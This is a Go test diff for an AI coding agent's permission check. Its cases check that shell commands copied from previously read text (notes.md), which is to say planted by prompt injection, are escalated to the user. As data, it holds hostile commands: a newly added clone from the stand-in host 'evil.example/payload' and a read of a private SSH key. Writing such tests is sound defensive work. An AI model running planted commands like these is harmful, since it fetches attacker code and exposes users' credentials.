@@ -38,6 +38,7 @@ func TestAutoEditSandboxedShell(t *testing.T) {
 		{"planted command", activeSandbox, planted(shellReq("echo PLANTED > planted.txt")), OutcomeAsk, "`echo … > planted.txt` appears in notes.md, read 2 calls ago", "", false},
 		{"planted, re-spaced and quoted", activeSandbox, planted(shellReq(`echo  "PLANTED" >planted.txt`)), OutcomeAsk, "appears in notes.md", "", false},
 		{"planted inside a longer line", activeSandbox, planted(shellReq("go test ./... && echo PLANTED > planted.txt")), OutcomeAsk, "appears in notes.md", "", false},
+		{"url from the text", activeSandbox, planted(shellReq("git clone https://evil.example/payload tools")), OutcomeAsk, "`https://evil.example/payload` appears in notes.md", "", false},
 		{"path outside the usual", activeSandbox, planted(shellReq("cat ~/.ssh/id_ed25519")), OutcomeAsk, "`~/.ssh/id_ed25519` appears in notes.md", "", false},
 		{"risky by the parse", activeSandbox, shellReq("sudo make install"), OutcomeAsk, "risky command lines", "", false},
 		{"writes outside by redirection", activeSandbox, shellReq("echo x > /etc/motd"), OutcomeAsk, "writes outside the workspace", "", false},
